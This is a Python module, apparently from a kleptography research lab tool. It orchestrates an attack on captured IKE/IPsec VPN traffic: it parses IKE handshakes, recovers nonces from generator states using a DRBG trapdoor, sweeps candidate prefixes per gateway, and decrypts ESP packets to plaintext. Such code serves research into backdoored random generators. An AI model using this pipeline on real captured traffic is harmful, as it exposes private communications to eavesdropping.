"""Many captures in one run: scan each, attack each gateway once, stream each capture's ESP.

1. **scan** (one unit per capture): stream the capture and keep only its IKE
   messages; parse every IKE SA.  Frame numbers are lifted by the capture's
   rank (captures ordered by their first timestamp), so capture order spans files.
2. **attack** (one unit per gateway, the responder ``address:port``): every IKE
   SA of that gateway from every capture, in time order, with the gateway's
   states from the :class:`~kleptolab.attack.store.StateStore`: walk forward
   from them (bounded window), predict by walking, and sweep only what nothing
   predicts, so one gateway epoch costs one sweep whatever the number of
   captures.  Gateways are independent, so their sweeps run in parallel.
3. **ESP** (one unit per capture, :mod:`kleptolab.attack.esp_stage`): the
   recovered keys of the SAs between the peers its ESP packets travel
   between (whichever capture their IKE SA was in), plaintext written as produced.

The client only groups, merges and writes the store and the small outputs;
the units run on the engine's workers (:mod:`kleptolab.attack.engine`).
"""

from __future__ import annotations

import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from kleptolab.attack.decryptor import (
    DecryptOptions,
    Handshake,
    Progress,
    Rekeyable,
)
from kleptolab.attack.engine import Engine, LocalEngine, recover_all
from kleptolab.attack.esp_stage import EspJob, EspOutcome, SaKey, decrypt_esp
from kleptolab.attack.ikev2_rekey import rekey_chains
from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
from kleptolab.attack.recovery import MemoryCache, NonceCache
from kleptolab.attack.store import KnownState, StateStore
from kleptolab.attack.units import (
    CaptureScan,
    GatewayJob,
    GatewayResult,
    ScanJob,
    run_gateway,
    scan_capture,
)
from kleptolab.capture.pcapio import iter_frames
from kleptolab.drbg.trapdoor import Trapdoor

__all__ = [
    "CaptureResult",
    "GatewayJob",
    "ManyResult",
    "ScanJob",
    "decrypt_many",
    "run_gateway",
    "scan_capture",
]


def _gateway_unit(job: GatewayJob, trapdoor: dict[str, Any]) -> GatewayResult:
    return run_gateway(job, trapdoor)


def _esp_unit(job: EspJob, _shared: Any) -> EspOutcome:
    return decrypt_esp(job, job.rows)


@dataclass
class CaptureResult:
    """One capture's outputs (plaintext in memory only when no output folder was given)."""

    path: str
    report: dict[str, Any]
    ikev1: list[Ikev1Row] = field(default_factory=list)
    ikev2: list[Ikev2Row] = field(default_factory=list)
    esp: list[EspSaRow] = field(default_factory=list)
    plaintext: list[tuple[float, bytes]] | None = None


@dataclass
class ManyResult:
    captures: list[CaptureResult]
    report: dict[str, Any]


def _first_timestamp(path: str) -> float:
    try:
        frame = next(iter(iter_frames(path, [])), None)
    except (OSError, ValueError):
        return float("inf")  # the scan reports what is wrong with it
    return frame.timestamp if frame is not None else float("inf")


def decrypt_many(
    captures: Sequence[Path],
    trapdoor: Trapdoor,
    engine: Engine,
    store: NonceCache,
    options: DecryptOptions | None = None,
    *,
    progress: Progress | None = None,
    plaintext_paths: Sequence[Path] | None = None,
) -> ManyResult:
    """Decrypt every capture; ``plaintext_paths[i]`` receives capture i's plaintext pcap
    (streamed), else the plaintext stays in memory.  ``ValueError``: a file is not a capture."""
    started = time.perf_counter()
    options = options or DecryptOptions()
    paths = [str(p) for p in captures]

    def tick(what: str, done: int, total: int) -> None:
        if progress is not None:
            progress(what, done, total)

    order = sorted(range(len(paths)), key=lambda i: (_first_timestamp(paths[i]), i))
    rank = {i: r for r, i in enumerate(order)}
    scans: list[CaptureScan | None] = [None] * len(paths)
    t0 = time.perf_counter()
    for done, (i, scan) in enumerate(
        engine.map(scan_capture, [ScanJob(p, rank[i], options.ike_ports) for i, p in enumerate(paths)]), 1
    ):
        scans[i] = scan
        tick("reading captures", done, len(paths))
    scan_s = time.perf_counter() - t0
    jobs = _gateway_jobs([s for s in scans if s is not None], store, options, engine)
    data = trapdoor.to_json()
    results: list[GatewayResult] = []
    t0 = time.perf_counter()
    if len(jobs) == 1 and isinstance(engine, LocalEngine) and engine.workers > 1:
        # one gateway: its sweeps use the local process pool, the rest runs here
        def sweep_tick(done: int, total: int) -> None:
            tick("sweeping 2^16 prefixes", done, total)

        def pool_sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
            return recover_all(
                nonces, trapdoor, engine, MemoryCache(), quirk_shifts=options.quirk_shifts,
                progress=sweep_tick,
            )

        results.append(run_gateway(jobs[0], data, pool_sweep, progress))
    else:
        for done, (_i, res) in enumerate(engine.map(_gateway_unit, jobs, data), 1):
            results.append(res)
            tick("attacking gateways", done, len(jobs))
    attack_s = time.perf_counter() - t0
    if isinstance(store, StateStore):
        for res in results:
            store.record(res.records)
    else:
        for res in results:
            for r in res.records:
                store.put(r.nonce, sorted(set((store.get(r.nonce) or []) + [r.state])))
    rows: dict[SaKey, EspSaRow] = {}
    owner: dict[SaKey, str] = {}
    for res in results:
        for sid, row in res.esp:
            rows[(row.spi, row.src, row.dst)] = row
            owner[(row.spi, row.src, row.dst)] = sid
    t0 = time.perf_counter()
    by_peers: dict[tuple[str, str], dict[SaKey, EspSaRow]] = {}
    for k, row in rows.items():
        by_peers.setdefault((k[1], k[2]), {})[k] = row
    esp_jobs = []
    for i, p in enumerate(paths):  # each capture gets the keys of the SAs between its ESP peers
        seen = scans[i]
        mine = {
            k: r
            for pair in (seen.esp_peers if seen else ())
            for k, r in by_peers.get(pair, {}).items()
        }
        esp_jobs.append(
            EspJob(p, str(plaintext_paths[i]) if plaintext_paths is not None else None, mine,
                   options.ike_ports, seen.natt_flows if seen else frozenset())
        )
    esp: list[EspOutcome | None] = [None] * len(paths)
    for done, (i, outcome) in enumerate(engine.map(_esp_unit, esp_jobs), 1):
        esp[i] = outcome
        tick("decrypting ESP", done, len(paths))
    esp_s = time.perf_counter() - t0
    crypto_s = sum(x.crypto_s for x in esp if x is not None)
    timings = {"scan_s": scan_s, "attack_s": attack_s, "esp_s": esp_s, "esp_crypto_s": crypto_s}
    return _assemble(paths, scans, results, esp, owner, options, timings, started)


def _gateway_jobs(
    scans: list[CaptureScan], store: NonceCache, options: DecryptOptions, engine: Engine
) -> list[GatewayJob]:
    by_gateway: dict[str, list[tuple[dict[str, Any], Handshake]]] = {}
    for scan in scans:
        for gateway, entry, h in scan.sessions:
            if gateway is not None and h is not None:
                by_gateway.setdefault(gateway, []).append((entry, h))
    jobs = []
    threads = max(1, engine.workers // max(1, len(by_gateway)))
    for gateway, pairs in by_gateway.items():
        pairs.sort(key=lambda p: p[1].nr_order)
        seen: set[str] = set()
        for entry, h in pairs:  # the same SA in two files: keep the ids apart
            if h.sid in seen:
                h.sid = f"{h.sid}@{Path(entry['capture']).name}"
                entry["id"] = h.sid
            seen.add(h.sid)
        rekeyable = _rekeyable(gateway, scans, {e["capture"] for e, _ in pairs})
        cached: dict[bytes, list[int]] = {}
        known: dict[bytes, list[KnownState]] = {}
        latest: list[KnownState] = []
        for _entry, h in pairs:
            states = store.get(h.nr)
            if states:
                cached[h.nr] = states
        if isinstance(store, StateStore):
            known = {n: store.positioned(n) for n in cached}
            latest = store.latest(gateway)
        jobs.append(
            GatewayJob(
                gateway,
                [h for _, h in pairs],
                [e for e, _ in pairs],
                cached,
                known,
                latest,
                options,
                threads,
                rekeyable,
            )
        )
    return jobs


def _rekeyable(gateway: str, scans: list[CaptureScan], captures: set[str]) -> Rekeyable:
    """The IKE SAs without an IKE_SA_INIT, in ``captures``, that talk to ``gateway``'s address:
    the candidates for its rekeyed IKEv2 SAs (RFC 7296 §2.18)."""
    address = gateway.rsplit(":", 1)[0]
    found = Rekeyable()
    for scan in scans:
        if scan.path not in captures:
            continue
        for spis, group, entry in scan.orphans:
            first = group[0].datagram
            if address in (first.src, first.dst):
                found.groups[spis] = group
                found.entries[entry["id"]] = entry
    return found


def _assemble(
    paths: list[str],
    scans: list[CaptureScan | None],
    results: list[GatewayResult],
    esp: list[EspOutcome | None],
    owner: dict[SaKey, str],
    options: DecryptOptions,
    timings: dict[str, float],
    started: float,
) -> ManyResult:
    updated: dict[tuple[int, int], dict[str, Any]] = {}
    sid_capture: dict[str, str] = {}
    for res in results:
        for e in res.entries:
            if "_key" in e:
                updated[e["_key"]] = e
            sid_capture[e["id"]] = e["capture"]
    how_by_capture: dict[str, dict[str, int]] = {
        p: {"sweep": 0, "predicted": 0, "state cache": 0} for p in paths
    }
    for res in results:
        for how, capture in res.how:
            if capture in how_by_capture:
                how_by_capture[capture][how] += 1
    outputs = []
    for i, path in enumerate(paths):
        scan, outcome = scans[i], esp[i]
        assert scan is not None and outcome is not None
        sessions = [updated.get(entry["_key"], entry) for _g, entry, _h in scan.sessions]
        sessions += [e for res in results for e in res.entries  # rekeyed SAs with no messages of their own
                     if "_key" not in e and e.get("capture") == path]
        counts: dict[str, int] = {}
        for e in outcome.report:
            sid = owner.get((bytes.fromhex(e["spi"]), e["src"], e["dst"]))
            if sid is not None:
                counts[sid] = counts.get(sid, 0) + e["decrypted"]
        for entry in sessions:
            if entry["id"] in counts:
                entry["esp_packets"] = counts[entry["id"]]
        result = CaptureResult(path, {}, plaintext=outcome.plaintext)
        for res in results:
            result.ikev1 += [row for sid, row in res.ikev1 if sid_capture.get(sid) == path]
            result.ikev2 += [row for sid, row in res.ikev2 if sid_capture.get(sid) == path]
            result.esp += [row for sid, row in res.esp if sid_capture.get(sid) == path]
        gateways = [r for r in results if any(e["capture"] == path for e in r.entries)]
        result.report = {
            "capture": path,
            "frames": scan.frames,
            "warnings": scan.warnings + outcome.warnings,
            "sessions": sessions,
            "esp": outcome.report,
            "anchors_walked": sum(r.anchors for r in gateways),
            "nonce_recovery": how_by_capture[path],
            "walk_steps": options.steps,
            "ike_rekey_chains": rekey_chains(sessions),
            "timings": _timings(gateways, timings, started),
        }
        outputs.append(result)
    for o in outputs:
        for s in o.report["sessions"]:
            s.pop("capture", None)
            s.pop("_key", None)
    merged = {
        "captures": paths,
        "gateways": {
            r.gateway: {
                "sessions": len(r.entries),
                "sweeps": sum(h == "sweep" for h, _ in r.how),
                "window_calls": r.window_calls,
            }
            for r in results
        },
        "sessions": sum(len(o.report["sessions"]) for o in outputs),
        "sessions_decrypted": sum(
            1 for o in outputs for s in o.report["sessions"] if "failure" not in s
        ),
        "esp_packets": sum(e["packets"] for o in outputs for e in o.report["esp"]),
        "esp_decrypted": sum(e["decrypted"] for o in outputs for e in o.report["esp"]),
        "esp_bytes": sum(x.esp_bytes for x in esp if x is not None),
        "sweeps": sum(v["sweep"] for v in how_by_capture.values()),
        "nonce_recovery": {
            k: sum(v[k] for v in how_by_capture.values())
            for k in ("sweep", "predicted", "state cache")
        },
        "timings": {
            **{k: round(v, 3) for k, v in timings.items()},
            "total_s": round(time.perf_counter() - started, 3),
        },
    }
    return ManyResult(outputs, merged)


def _timings(
    gateways: list[GatewayResult], stages: dict[str, float], started: float
) -> dict[str, float]:
    t = {
        k: round(sum(g.timings.get(k, 0.0) for g in gateways), 3)
        for k in ("recovery_s", "sweep_s", "attack_s")
    }
    t["esp_s"] = round(stages["esp_s"], 3)
    t["esp_crypto_s"] = round(stages["esp_crypto_s"], 3)
    t["total_s"] = round(time.perf_counter() - started, 3)
    return t
